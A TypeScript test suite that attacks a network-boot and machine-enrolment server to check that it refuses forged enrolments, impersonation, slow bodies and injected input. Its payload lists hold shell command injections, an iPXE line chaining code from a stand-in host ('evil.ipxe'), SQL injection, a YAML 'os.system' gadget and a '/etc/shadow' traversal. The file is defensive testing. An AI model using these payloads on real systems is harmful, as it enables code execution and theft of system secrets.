import { generateKeyPairSync, type KeyObject } from 'node:crypto'
import { connect, type TLSSocket } from 'node:tls'
import t, { type Test } from 'tap'
import { parse } from 'yaml'
import { bootApp, seedFiles } from '../../server/http/boot-app.ts'
import { listenHttp } from '../../server/listen/http.ts'
import { invitationLifeMs } from '../../server/machines/enrolment.ts'
import { hyphenated } from '../../server/wire/mac.ts'
import { aNode, enrolmentBody, given, signed } from '../access/a-node.ts'
import { boxWithDisk } from '../appliance/box-with-disk.ts'
import type { Config } from '../../server/config/config.ts'
import { networkSettings, ram } from '../appliance/a-config.ts'
import { theClusters } from '../appliance/the-clusters.ts'
import { mac, OneMachine } from '../appliance/one-machine.ts'
import { testFolder } from '../folder.ts'
import { apiFor, type ApiForMachine } from '../http/api-for-machine.ts'
import { bearer } from '../http/an-https-api.ts'
import { decode } from '../../server/dhcp/decode.ts'
import { encode } from '../../server/dhcp/encode.ts'
import { Box } from '../boot/a-box.ts'
import { golden } from '../dhcp/golden.ts'
import { macNumber } from '../networks/a-network.ts'

// Somebody on the network of the machines, who can read all that the boot listener serves, show himself as any machine, and send
// what he likes to both listeners, over real connections. After each of it the machine itself gets on.

t.setTimeout(600_000)

/** A box whose machine is for a cluster and has come to its script; both of its listeners are open. */
async function attacked(t: Test, box: OneMachine) {
  const api = await apiFor(t, box)
  const app = bootApp(box.boot)
  const listener = await listenHttp(app, { address: '127.0.0.1', port: 0 }, (event) => box.boot.tell(event))
  t.teardown(async () => await listener[Symbol.asyncDispose]())
  const url = `http://127.0.0.1:${listener.port}`
  const get = async (path: string) => {
    const response = await fetch(`${url}${path}`)
    return { status: response.status, text: await response.text() }
  }
  return {
    api,
    app,
    get,
    send: async (path: string, body: string) =>
      (await fetch(`${url}${path}`, { method: 'POST', body })).status,
    /** What anybody reads who asks for the seed of a boot. */
    nonce: async (attempt = box.attempt.id) =>
      /NONCE='([0-9a-f]{32}|none)'/.exec((await get(`/seed/${attempt}/vendor-data`)).text)?.[1] ?? '',
  }
}

async function inMemory(t: Test): Promise<OneMachine> {
  return await OneMachine.open(t, { defaults: { ...ram, cluster: 'lab' } })
}

const head = 'POST /api/v1/node/enrol HTTP/1.1\r\nHost: box\r\n'

function lineTo(t: Test, { port, authority }: ApiForMachine): TLSSocket {
  const socket = connect({ host: '127.0.0.1', port, ca: authority.certificatePem })
  socket.on('error', () => {}).resume()
  t.teardown(() => socket.destroy())
  return socket
}

/** What a request is answered whose header goes on, and whose body comes, as it stands here. */
async function raw(t: Test, api: ApiForMachine, rest: string): Promise<string> {
  const socket = lineTo(t, api)
  return await new Promise((resolve) => {
    let text = ''
    socket
      .on('data', (chunk: Buffer) => (text += chunk.toString('latin1')))
      .once('close', () => resolve(text))
    socket.write(`${head}${rest}`)
  })
}

function spki(key: KeyObject): string {
  return key.export({ format: 'der', type: 'spki' }).toString('base64')
}

t.test(
  'whoever reads the nonce and comes second shuts both out; who comes first is found by the machine',
  async (t) => {
    for (const first of ['the machine', 'the attacker']) {
      const box = await inMemory(t)
      const { api, nonce } = await attacked(t, box)
      await box.boots()
      const [read, [machine, attacker]] = [await nonce(), [aNode(), aNode()]]
      const order = first === 'the machine' ? [machine, attacker] : [attacker, machine]
      const [won, lost] = [
        await api.post('enrol', order[0]!.enrols(read)),
        await api.post('enrol', order[1]!.enrols(read)),
      ]
      t.match([won.status, lost.status], [200, 409], first)
      const { credential } = given(won.body)
      t.match(await api.post('whoami', '', bearer(credential)), { status: 401, body: /revoked/ })
      t.equal(box.machine.state, 'quarantined')
      await box.settled()
      t.equal(box.count('machine-claimed-twice'), 1)
      t.equal(await box.boots(), 'wait', 'it is given no image any more, and no nonce')
    }
  },
)

t.test('of fifty keys at once one is given a credential, and it is good for nothing', async (t) => {
  const box = await inMemory(t)
  const { api, nonce } = await attacked(t, box)
  await box.boots()
  const read = await nonce()
  const answers = await Promise.all(
    Array.from({ length: 25 }, async () => await api.post('enrol', aNode().enrols(read))),
  )
  const won = answers.filter(({ status }) => status === 200)
  t.equal(won.length, 1)
  t.equal((await api.post('whoami', '', bearer(given(won[0]?.body ?? '').credential))).status, 401)
  t.equal(box.machine.state, 'quarantined')
})

t.test(
  'no request of a stranger is given a credential, and the machine has its own after all of them',
  async (t) => {
    const box = await inMemory(t)
    const { api, nonce, get } = await attacked(t, box)
    const other = macNumber(2)
    await get(`/boot.ipxe?mac=${hyphenated(other)}`)
    await box.boots()
    const mine = await nonce()
    const theirs = box.roster.latestAttempt(box.roster.byMac(other)?.id ?? '')
    const ofOther = await nonce(theirs?.id)
    t.match([mine, ofOther], [/^[0-9a-f]{32}$/, /^[0-9a-f]{32}$/])

    const node = aNode()
    const body = (words: Partial<{ nonce: string; key: string; signature: string }>) =>
      enrolmentBody({
        nonce: mine,
        key: node.key,
        signature: /signature (\S+)/.exec(node.enrols(mine))?.[1] ?? '',
        ...words,
      })
    const keys = {
      rsa: generateKeyPairSync('rsa', { modulusLength: 2048 }),
      p384: generateKeyPairSync('ec', { namedCurve: 'P-384' }),
      ed25519: generateKeyPairSync('ed25519'),
    }
    const off = Buffer.from(node.key, 'base64')
    off.writeUInt8(off.readUInt8(70) ^ 1, 70)
    const injections = [
      "'; reboot #",
      '$(reboot)',
      '`id`',
      '../../x',
      '%0a',
      '{{7*7}}',
      '${net0/mac}',
      '\u0007',
    ]
    const attacks: readonly (string | Buffer)[] = [
      '',
      '\u0000',
      Buffer.from([0xff, 0xfe, 0x80]),
      '{"nonce":"x"}',
      'ironwake-enrol 1\n'.repeat(50),
      body({ nonce: 'none' }),
      body({ nonce: '0'.repeat(32) }),
      body({ nonce: mine.toUpperCase() + 'A' }),
      body({ nonce: ofOther }),
      body({ signature: 'AAAA' }),
      body({ signature: /signature (\S+)/.exec(node.enrols(ofOther))?.[1] ?? '' }),
      body({ signature: signed(mine, node.privateKey) }),
      body({ key: aNode().key }),
      body({ key: off.toString('base64') }),
      body({ key: 'A'.repeat(122) + '==' }),
      ...Object.values(keys).map(({ publicKey }) => body({ key: spki(publicKey) })),
      ...injections.flatMap((text) => [
        body({ nonce: text }),
        body({ key: text }),
        body({ signature: text }),
      ]),
    ]
    for (const attack of attacks) {
      const { status } = await api.post('enrol', attack)
      t.ok([400, 403].includes(status), `${status} for ${JSON.stringify(attack.toString()).slice(0, 80)}`)
    }
    for (const count of [2_049, 1_000_000_000]) {
      const answer = await raw(t, api, `Content-Length: ${count}\r\n\r\n${'x'.repeat(2_049)}`)
      t.match(answer, /^HTTP\/1\.1 413 /, 'what is long is left unread')
    }
    const renewals = [
      aNode().renews(box.machine.id, box.now),
      node.renews(box.machine.id, box.now),
      'ironwake-renew 1\n',
    ]
    for (const attack of renewals) t.not((await api.post('renew', attack)).status, 200)
    await box.settled()
    t.equal(box.count('enrolment-refused'), attacks.length + renewals.length, 'each is told of')
    for (const credential of [
      'iwm_' + 'A'.repeat(43),
      'iw_0a1b2c3d_' + '0'.repeat(64),
      "' or 1=1 --",
      '%00',
    ]) {
      t.equal((await api.post('whoami', '', bearer(credential))).status, 401, credential)
    }
    await box.settled()
    t.ok(box.count('credential-refused') >= 3, 'told of, and no more often than is of use')

    t.strictSame(
      (await box.store.enrolments.all()).filter(({ holder }) => holder !== undefined),
      [],
      'nobody has enrolled',
    )
    t.strictSame([box.machine.state, box.roster.all().length], ['installing', 2])
    t.equal((await api.post('enrol', node.enrols(mine))).status, 200, 'the machine itself has its credential')
  },
)

t.test('a nonce is of no use when its time or its boot is over', async (t) => {
  const box = await inMemory(t)
  const { api, nonce } = await attacked(t, box)
  await box.boots()
  const late = await nonce()
  box.now += invitationLifeMs
  t.match(await api.post('enrol', aNode().enrols(late)), { status: 403, body: /expired/ })
  await box.boots()
  const [before, ended] = [box.attempt.id, await nonce()]
  await box.runs()
  t.match(await api.post('enrol', aNode().enrols(ended)), { status: 403, body: /over|installed/ })
  t.match(await nonce(before), /^(?:none|[0-9a-f]{32})$/)
  t.equal(box.enrolments.of(box.machine.id)?.holder, undefined)
})

t.test(
  'who shows himself as an enrolled machine with its card, serial and UUID has nothing of it',
  async (t) => {
    const box = await OneMachine.open(t, { defaults: { ...ram, cluster: 'lab' } })
    const { api, nonce, get } = await attacked(t, box)
    await box.boots()
    const node = aNode()
    const { credential } = given((await api.post('enrol', node.enrols(await nonce()))).body)
    await box.runs()
    const who = `mac=${hyphenated(mac)}&uuid=4c4c4544-004d-3510-804a-000000000001&serial=ABC&product=X&platform=efi`
    // A system in memory is started anew by whoever asks in its name: he may race for a new credential, and is found out.
    box.now += 3_600_000
    t.equal((await get(`/boot.ipxe?${who}`)).status, 200)
    const stolen = await api.post('enrol', aNode().enrols(await nonce()))
    t.equal(stolen.status, 200, 'he wins a race that the machine does not run in')
    t.equal(
      (await api.post('whoami', '', bearer(credential))).status,
      403,
      'the machine itself comes with its own',
    )
    t.equal(box.machine.state, 'quarantined')
    t.equal(
      (await api.post('whoami', '', bearer(given(stolen.body).credential))).status,
      401,
      'and his is revoked',
    )
    await box.settled()
    t.equal(box.count('machine-claimed-twice'), 1)
  },
)

const claimed = { networks: [networkSettings({ identity: 'claim' })], defaults: { ...ram, cluster: 'prod' } }
const theBoard = '&uuid=4c4c4544-004d-3510-804a-000000000001&serial=ABC'

/** On a network that wants the claim tier, what a stranger is told and given who shows himself so. */
async function onStrictNetwork(t: Test, approve: Config['approve']) {
  const box = await OneMachine.open(t, { dataFolder: testFolder(t), ...claimed, approve })
  box.clusters = await theClusters(box)
  const at = await attacked(t, box)
  const shows = async (board = theBoard) => {
    box.now += 3_600_000
    box.comesBy()
    const { text } = await at.get(`/boot.ipxe?mac=${hyphenated(mac)}&platform=efi${board}`)
    return /Ironwake: (\S+)|(This machine waits[^\n]*)/.exec(text)?.[0] ?? text
  }
  const isInvited = async () => /^[0-9a-f]{32}$/.test(await at.nonce())
  return { ...at, box, shows, isInvited }
}

t.test(
  'on a network of the claim tier who copies card, serial and UUID of an approved machine has no credential',
  async (t) => {
    const nobody = { kind: 'these', macs: new Set<never>() } as const
    const ways = [
      { name: 'a rule for all', approve: { kind: 'all' }, order: undefined },
      { name: 'a rule for its card', approve: { kind: 'these', macs: new Set([mac]) }, order: undefined },
      { name: 'a person, by name', approve: nobody, order: {} },
    ] as const
    for (const { name, approve, order } of ways) {
      const { box, api, shows, isInvited } = await onStrictNetwork(t, approve)
      await shows()
      if (order !== undefined) t.match(await box.api.approve(box.machine, order), { kind: 'done' }, name)
      t.equal(box.plans.standingOf(mac, box.machine).kind, 'approved', name)
      t.match(await shows(), /waits for a person to compare its code/, name)
      t.notOk(await isInvited(), name)
      t.strictSame(box.enrolments.of(box.machine.id), undefined, `${name}: no nonce was made`)
      for (const nonce of ['0'.repeat(32), box.attempt.id])
        t.equal((await api.post('enrol', aNode().enrols(nonce))).status, 403, name)
      await box.settled()
      t.ok(box.count('join-refused') > 0, name)
    }
  },
)

t.test('of a machine that was claimed, who copies less than all has no credential', async (t) => {
  const nobody = { kind: 'these', macs: new Set<never>() } as const
  const { box, shows, isInvited } = await onStrictNetwork(t, nobody)
  await shows()
  const { claim = '' } = box.machine
  t.match(await box.api.approve(box.machine, { claim }), { kind: 'done' })
  for (const board of ['', '&uuid=4c4c4544-004d-3510-804a-0000000000ff', '&serial=XYZ']) {
    t.match(await shows(board), /waits for/, board)
    t.notOk(await isInvited(), board)
  }
})

t.test(
  'of a machine that was claimed on a boot before, who copies all of it has what it would have, until it comes itself',
  async (t) => {
    const nobody = { kind: 'these', macs: new Set<never>() } as const
    const { box, api, shows, nonce, isInvited } = await onStrictNetwork(t, nobody)
    await shows()
    const { claim = '' } = box.machine
    await box.api.approve(box.machine, { claim })
    await shows()
    const node = aNode()
    const { credential } = given((await api.post('enrol', node.enrols(await nonce()))).body)
    await box.runs()
    // Nothing of it is proved by hardware: what a person compared once is tied to what anybody can show.
    await shows()
    t.ok(await isInvited())
    const stolen = await api.post('enrol', aNode().enrols(await nonce()))
    t.equal(stolen.status, 200, 'he is that machine, while it is away')
    t.equal((await api.post('whoami', '', bearer(credential))).status, 403, 'and is found out when it comes')
    t.equal((await api.post('whoami', '', bearer(given(stolen.body).credential))).status, 401)
    t.equal(box.machine.state, 'quarantined')
    // The code does not count any more, so that neither of them is let in by another try.
    await box.api.retry(box.machine.id)
    t.match(await shows(), /waits for a person to compare its code/)
    t.notOk(await isInvited())
  },
)

/** What a shell, YAML, iPXE, GRUB, a terminal or SQL would take for its own. */
const payloads = [
  "'; touch /tmp/ironwake-attack; '",
  '$(touch /tmp/ironwake-attack)',
  '`touch /tmp/ironwake-attack`',
  '"\nruncmd: [[touch, /tmp/ironwake-attack]]\n#',
  'x\nchain http://10.0.0.9/evil.ipxe',
  'x || chain http://10.0.0.9/evil.ipxe',
  '${net0/mac} && shell',
  '\u001b]0;owned\u0007\u001b[2J',
  '\u2028\u202e gnp.exe',
  "x'); drop table machines; --",
  '!!python/object/apply:os.system ["id"]',
  '&a [*a, *a]',
  '../../../../etc/shadow',
  '\ud800',
  'x'.repeat(5_000),
]

t.test('what a stranger says of a machine becomes no line of a script, a seed or a terminal', async (t) => {
  const box = await boxWithDisk(t, Buffer.alloc(1024 * 1024, 7), { cluster: 'lab' })
  const { api, nonce, get, send } = await attacked(t, box)
  await box.boots()
  const plain = await get(`/seed/${box.attempt.id}/user-data`)
  const keysOf = (text: string) => Object.keys(parse(text, { version: '1.1' }) as object).toSorted()
  for (const [number, payload] of payloads.entries()) {
    const text = encodeURIComponent(payload.toWellFormed())
    const query = `mac=${hyphenated(mac)}&serial=${text}&product=${text}&manufacturer=${text}&uuid=${text}&hostname=${text}&platform=${text}&arch=${text}`
    for (const path of [
      `/boot.ipxe?${query}`,
      `/boot.ipxe?mac=${text}`,
      `/seed/${text}/user-data`,
      `/programs/${text}`,
    ]) {
      const { status, text: script } = await get(path)
      t.ok(status < 500, `payload ${number}: ${status}`)
      for (const line of script.split(/[\r\n\u0085\u2028\u2029]/)) {
        t.notOk(
          /^\s*(?:chain|shell|touch|runcmd)\b.*(?:10\.0\.0\.9|attack)/.test(line),
          `payload ${number} begins no line`,
        )
        // oxlint-disable-next-line no-control-regex -- control characters are what this is about
        t.notOk(/[\u0000-\u0008\u000b-\u001f\u007f]/.test(line), `payload ${number} moves no cursor`)
      }
    }
    // The name that a client gives itself by DHCP, as firmware, iPXE and a system do (option 12).
    for (const packet of ['discover-uefi-pxe', 'discover-ipxe-uefi', 'discover-udhcpc'])
      box.sends(packet, mac, { hostname: payload.toWellFormed() })
    t.equal(box.machine.hostname, undefined)
    await box.boots()
    const { id } = box.attempt
    const inventory = `ironwake-inventory 1\nfirmware bios\nprocessors 1\nmemory 1\nprocessor-model ${payload}\ndisk vda\nbytes 99\nserial ${payload}\nmodel ${payload}\nend\n`
    for (const [path, body] of [
      [`/install/${id}/note`, payload],
      [`/install/${id}/progress`, payload],
      [`/install/${id}/ended`, `failed ${payload}\n${payload}`],
      [
        `/report/${id}`,
        JSON.stringify({ name: payload, description: payload, event_type: 'start', origin: payload }),
      ],
      [`/phone-home/${id}`, `hostname=${text}&instance_id=${text}`],
      [`/install/${id}/disks`, inventory],
    ] as const) {
      t.ok((await send(path, body)) < 500, `payload ${number} to ${path}`)
    }
    const seed = await get(`/seed/${id}/user-data`)
    if (seed.status === 200) t.strictSame(keysOf(seed.text), keysOf(plain.text))
    const vendor = await get(`/seed/${id}/vendor-data`)
    const invitation = /content: "(API=.*?)"\n/.exec(vendor.text)?.[1]
    if (invitation !== undefined)
      t.match(
        invitation,
        /^API='https:\/\/[0-9.:]+'\\nFINGERPRINT='[0-9a-f]{64}'\\nNONCE='(?:none|[0-9a-f]{32})'\\n$/,
      )
    await box.boots()
    if (box.machine.state === 'quarantined') {
      await box.api.retry(box.machine.id)
      await box.boots()
    }
  }
  t.equal(box.roster.all().length, 1)
  const told = JSON.stringify(box.happened.filter(({ kind }) => kind !== 'request-refused'))
  t.notMatch(told, /\\u001b|\\u0007/, 'events can be shown on a terminal')
  const own = await api.post('enrol', aNode().enrols(await nonce()))
  t.equal(own.status, 200, own.body)
})

t.test('what a stranger calls himself by DHCP comes into no answer, no lease and no event', async (t) => {
  const names = [...payloads, '-rf', '.', 'a b', 'a;b', "node-1'", 'node-1\n', 'ä', 'x'.repeat(64)]
  const asks = ['discover-uefi-pxe', 'discover-uefi-http', 'discover-ipxe-uefi', 'discover-udhcpc']
  let answered = 0
  for (const packet of asks) {
    for (const [number, name] of names.entries()) {
      const claim = `${packet}, name ${number}`
      const { send, leases, happened } = asksAs(packet, name)
      answered += send.length
      for (const { bytes } of send) {
        t.equal(optionIn(bytes, 12), undefined, claim)
        if (name.length > 8) t.notOk(Buffer.from(bytes).includes(name.toWellFormed().slice(0, 12)), claim)
      }
      t.strictSame(
        leases.filter(({ hostname }) => hostname !== undefined),
        [],
        claim,
      )
      if (name.length > 8)
        t.notOk(JSON.stringify(happened).includes(JSON.stringify(name).slice(1, 13)), claim)
    }
  }
  t.equal(answered, asks.length * names.length, 'each of them was answered')
  t.match(asksAs('discover-udhcpc', 'node-3').leases, [{ hostname: 'node-3' }], 'a name that is one is kept')
})

/** What a client is answered that gives itself this name (option 12), and asks for one (option 55). */
function asksAs(packet: string, name: string) {
  const message = golden(packet)
  const wanted = Uint8Array.of(1, 3, 12, 66, 67)
  const options = new Map([...message.options, [12, Buffer.from(name.toWellFormed())], [55, wanted]])
  return new Box().answer(encode({ ...message, options }).bytes)
}

function optionIn(bytes: Uint8Array, code: number): Uint8Array | undefined {
  const decoded = decode(bytes)
  return decoded.kind === 'message' ? decoded.message.options.get(code) : undefined
}

t.test('the boot listener serves no secret of an enrolled machine, under no path', async (t) => {
  const box = await boxWithDisk(t, Buffer.alloc(1024 * 1024, 7), { cluster: 'lab' })
  const { api, app, nonce, get, send } = await attacked(t, box)
  await box.boots()
  const node = aNode()
  const read = await nonce()
  const { credential } = given((await api.post('enrol', node.enrols(read))).body)
  const { id } = box.attempt
  const disk = 'disk vda\nbytes 104857600\nserial IW\n'
  t.equal(
    await send(
      `/install/${id}/disks`,
      `ironwake-inventory 1\nfirmware bios\nprocessors 1\nmemory 1073741824\ncard eth0 52:54:00:00:00:01\n${disk}end\n`,
    ),
    200,
  )
  t.equal(box.machine.install?.phase, 'writing')
  const install = box.machine.install?.id ?? ''
  const paths = [
    '/chain.ipxe',
    '/programs/autoexec.ipxe',
    '/authority.pem',
    '/programs/snponly.efi',
    ...seedFiles.flatMap((file) => [
      `/seed/${id}/${file}`,
      `/install/${id}/seed/${file}`,
      `/seed/${install}/${file}`,
    ]),
    '/install/' + id,
    '/api/v1/node/enrol',
    '/api/v1/machines',
    // These begin another boot.
    `/boot.ipxe?mac=${hyphenated(mac)}`,
    `/grub/grub.cfg-01-${hyphenated(mac)}`,
    '/grub/grub.cfg',
  ]
  const secrets = [
    credential.slice(4),
    read,
    node.privateKey.export({ format: 'pem', type: 'pkcs8' }).toString().split('\n')[1] ?? '',
    'BEGIN PRIVATE KEY',
    ...(box.enrolments.of(box.machine.id)?.holder?.credentials ?? []).map(({ hash }) => hash),
  ]
  const served = new Map<string, string>()
  for (const path of paths) {
    const { status, text } = await get(path)
    if (status === 200) served.set(path, text)
    for (const secret of secrets) t.notOk(text.includes(secret), `${path} without ${secret.slice(0, 8)}…`)
  }
  t.ok(served.size >= 10, `${[...served.keys()].join(' ')} were served`)
  // Every path that is served to whoever asks is among those walked.
  const layers = (app.router as unknown as { readonly stack: readonly Layer[] }).stack
  const routes = layers.flatMap(({ route, match }) =>
    route?.methods['get'] === true ? [{ path: String(route.path), match }] : [],
  )
  t.ok(routes.length >= 7, `${routes.length} routes`)
  for (const { path } of routes) {
    const isWalked = paths.some((one) => matches(path, one.split('?')[0] ?? ''))
    t.ok(isWalked, `${path} was walked`)
  }
})

type Layer = {
  readonly route?: { readonly path: unknown; readonly methods: Readonly<Record<string, boolean>> }
  readonly match: unknown
}

/** Whether a path of express fits one that was asked for, closely enough to notice a route that nobody walks. */
function matches(route: string, path: string): boolean {
  const forms = route
    .split(',')
    .map((one) =>
      one.startsWith('/^') || one.includes('(?')
        ? path.startsWith('/grub') || path.includes('autoexec')
        : new RegExp(`^${one.replaceAll(/:[a-z]+/g, '[^/]+').replaceAll(/\*[a-z]+/g, '.+')}$`).test(path),
    )
  return forms.some((fits) => fits)
}

t.test('slow and endless bodies are let go, and the machine is answered meanwhile', async (t) => {
  const box = await inMemory(t)
  const { api, nonce } = await attacked(t, box)
  await box.boots()
  const read = await nonce()
  const drips = Array.from({ length: 20 }, () => {
    const socket = lineTo(t, api)
    socket.write(`${head}Content-Length: 500\r\n\r\n`)
    const timer = setInterval(() => socket.writable && socket.write('x'), 1_000)
    t.teardown(() => clearInterval(timer))
    return new Promise<void>((resolve) => void socket.once('close', () => resolve()))
  })
  const endless = await raw(t, api, `Transfer-Encoding: chunked\r\n\r\n1000\r\n${'x'.repeat(4096)}\r\n`)
  t.match(endless, /^HTTP\/1\.1 413 /)
  t.equal((await api.post('enrol', aNode().enrols(read))).status, 200)
  await Promise.all(drips)
  t.pass('those that drip are let go')
})
